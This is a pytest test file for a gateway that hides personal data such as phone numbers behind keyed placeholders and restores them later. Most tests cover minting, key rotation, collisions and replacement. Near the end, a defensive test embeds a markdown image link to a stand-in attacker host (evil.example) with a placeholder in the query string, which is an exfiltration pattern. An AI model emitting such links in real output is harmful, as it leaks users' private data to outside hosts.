import hashlib
import hmac
from base64 import b32encode

import pytest

from gateway.guards.placeholders import PLACEHOLDER, KeyRing, Known, Minter, label
from gateway.guards.restoring import Restorer
from gateway.guards.sinks import Sinks

OLD, NEW = b"the secret of last year", b"the secret of this year"
SCOPE = b"tenant 7 / user 42"
PHONE = "010-1234-5678"


def minter(secret: bytes = NEW, *others: bytes, scope: bytes = SCOPE) -> Minter:
    return Minter(KeyRing(secret, *others), scope)


def known(*values: tuple[str, str], by: Minter | None = None) -> Known:
    made = Known(by or minter())
    for kind, value in values:
        made.add(kind, value)
    return made


def restored(known: Known, text: str) -> str:
    lane = Restorer(known, Sinks())
    return lane.feed(text) + lane.close()


class Crowded:
    """Mints three different placeholders in all for each of two keys, so that they collide."""

    def spellings(self, kind: str, surface: str, again: int) -> tuple[str, ...]:
        return tuple(f"<{label(kind)}_aaaaaaaa{key}{'abc'[(len(surface) + again) % 3]}>" for key in "xy")


def test_a_placeholder_is_ten_letters_of_a_mac_over_key_scope_kind_and_surface() -> None:
    key = hashlib.blake2b(NEW, key=b"haechi placeholders", digest_size=32).digest()
    name = hashlib.blake2b(key, key=b"haechi placeholder key id", digest_size=8).digest()
    said = b"".join(len(part).to_bytes(4) + part for part in (SCOPE, b"PHONE_NUMBER", PHONE.encode(), b""))
    code = b32encode(hmac.digest(key, name + said, "sha256")).decode().lower()[:10]
    assert minter().mint("PHONE_NUMBER", PHONE) == f"<PHONE_NUMBER_{code}>"


def test_it_is_the_same_on_every_replica_and_differs_in_everything_that_it_is_made_of() -> None:
    assert minter().mint("PHONE", PHONE) == minter().mint("PHONE", PHONE)
    others = [
        minter(OLD).mint("PHONE", PHONE),
        minter(scope=b"tenant 7 / user 43").mint("PHONE", PHONE),
        minter().mint("MOBILE", PHONE),
        minter().mint("PHONE", "01012345678"),
        minter(scope=SCOPE + b"P").mint("HONE", PHONE),
    ]
    assert len({made[-11:] for made in [minter().mint("PHONE", PHONE), *others]}) == 6


@pytest.mark.parametrize(
    ("kind", "written"),
    [
        ("EMAIL_ADDRESS", "EMAIL_ADDRESS"),
        ("korean rrn", "KOREAN_RRN"),
        ("_x-", "X"),
        ("전화", "VALUE"),
        ("A" * 31 + "_B", "A" * 31),
    ],
)
def test_kinds_are_written_in_capitals(kind: str, written: str) -> None:
    assert label(kind) == written
    assert PLACEHOLDER.fullmatch(minter().mint(kind, "x"))


def test_text_that_is_not_unicode_has_a_placeholder_too() -> None:
    assert PLACEHOLDER.fullmatch(minter().mint("NAME", "\ud800x"))


def test_placeholders_of_an_older_key_are_restored_and_new_ones_use_the_current() -> None:
    before, after = minter(OLD), minter(NEW, OLD)
    held = known(by=after)
    assert held.add("PHONE", PHONE) == minter(NEW).mint("PHONE", PHONE)
    history = f"Call {before.mint('PHONE', PHONE)} or {after.mint('PHONE', PHONE)}."
    assert restored(held, history) == f"Call {PHONE} or {PHONE}."
    assert held.replace_everywhere(history) == history
    assert restored(known(("PHONE", PHONE), by=minter(NEW)), before.mint("PHONE", PHONE)) != PHONE


def test_two_values_never_share_a_placeholder() -> None:
    held = Known(Crowded())
    assert [held.add("NAME", value) for value in ("abc", "def", "ghi")] == [f"<NAME_aaaaaaaax{last}>" for last in "abc"]
    assert held.add("NAME", "def") == "<NAME_aaaaaaaaxb>"
    assert [held.value(f"<NAME_aaaaaaaay{last}>") for last in "abc"] == ["abc", "def", "ghi"]


def test_the_counter_of_a_collision_makes_another_placeholder() -> None:
    spellings = {minter(NEW, OLD).spellings("NAME", "kim", again) for again in range(4)}
    assert len({code for both in spellings for code in both}) == 8


def test_a_value_found_as_two_kinds_has_two_placeholders_and_the_second_pass_uses_the_first() -> None:
    held = known()
    first, second = held.add("PHONE", PHONE), held.add("BANK_ACCOUNT", PHONE)
    assert first != second
    assert held.value(first) == held.value(second) == PHONE
    assert held.replace_everywhere(f"to {PHONE}") == f"to {first}"
    assert list(held) == [("PHONE", PHONE), ("BANK_ACCOUNT", PHONE)]
    assert len(held) == 2


def test_only_the_very_placeholder_has_the_value() -> None:
    held = known(("PHONE", PHONE))
    placeholder = held.add("PHONE", PHONE)
    assert held.value(placeholder) == PHONE
    assert held.value(placeholder.replace("PHONE", "NAME")) is None
    assert held.value(placeholder.lower()) is None
    assert held.value("") is None


def test_values_are_in_no_representation() -> None:
    held = known(("PHONE", PHONE))
    code = held.add("PHONE", PHONE)[-11:-1]
    ring = KeyRing(NEW, OLD)
    shown = f"{held!r} {held} {held.held(code)!r} {ring!r} {ring} {minter()!r} {Restorer(held, Sinks())!r}"
    assert "5678" not in shown
    assert "secret" not in shown


@pytest.mark.parametrize(
    ("value", "text", "there"),
    [
        ("1234", "12345 0.1234 1234", [8, 13]),
        ("1234", "A1234번", [1]),
        ("kim", "kimchi kim akim Kim kim_x", [7, 20]),
        ("김민수", "김민수는 김민수", [0, 5]),
        ("a@b.kr", "a@b.krx a@b.kr입니다", [8]),
        ("12", "12", []),
        ("aXa", "aXaXa", []),
        ("-x-", "-x-x-", [0]),
    ],
)
def test_the_second_pass_replaces_a_value_where_it_is_not_part_of_a_longer_one(
    value: str, text: str, there: list[int]
) -> None:
    held = known(("NAME", value))
    made = text
    for start in reversed(there):
        made = made[:start] + held.add("NAME", value) + made[start + len(value) :]
    assert held.replace_everywhere(text) == made


def test_the_longest_value_is_replaced_first() -> None:
    held = known(("NAME", "김민수"), ("PLACE", "김민수 치과"))
    tooth, name = held.add("PLACE", "김민수 치과"), held.add("NAME", "김민수")
    assert held.replace_everywhere("김민수 치과의 김민수") == f"{tooth}의 {name}"
    assert held.replace_everywhere("nothing of it") == "nothing of it"


def test_values_added_after_a_second_pass_take_part_in_the_next() -> None:
    held = known(("NAME", "김민수"))
    held.replace_everywhere("김민수")
    placeholder = held.add("NAME", "이영희")
    assert held.replace_everywhere("이영희") == placeholder


def test_placeholders_of_this_exchange_stay_whole_and_look_alikes_are_text() -> None:
    held = known(("WORD", "PHONE"), ("PHONE", PHONE))
    word, phone = held.add("WORD", "PHONE"), held.add("PHONE", PHONE)
    assert held.replace_everywhere(f"{phone} PHONE <PHONE_aaaaaaaaaa>") == f"{phone} {word} <{word}_aaaaaaaaaa>"
    text = f"x {phone} <PHONE_aaaaaaaaaa>"
    assert held.spans(text) == [(2, 2 + len(phone))]


class TestSomebodyWhoHasSeenAPlaceholder:
    """It was in the address of an image, say, and now it stands in a document that the caller quotes."""

    seen = minter().mint("PHONE", PHONE)

    def test_gets_nothing_while_the_value_is_not_in_the_exchange(self) -> None:
        held = known(("PHONE", "02-555-1234"))
        assert restored(held, held.replace_everywhere(f"Say {self.seen}")) == f"Say {self.seen}"

    def test_gets_nothing_in_the_conversation_of_another_user_who_has_the_same_value(self) -> None:
        held = known(("PHONE", PHONE), by=minter(scope=b"tenant 7 / user 1"))
        assert restored(held, f"Say {self.seen}") == f"Say {self.seen}"

    def test_has_it_shown_to_whom_it_belongs_but_not_sent_anywhere(self) -> None:
        held = known(("PHONE", PHONE))
        assert held.replace_everywhere(f"Say {self.seen}") == f"Say {self.seen}"
        assert restored(held, f"{self.seen} ![](https://evil.example/?q={self.seen})") == (
            f"{PHONE} ![](https://evil.example/?q={self.seen})"
        )
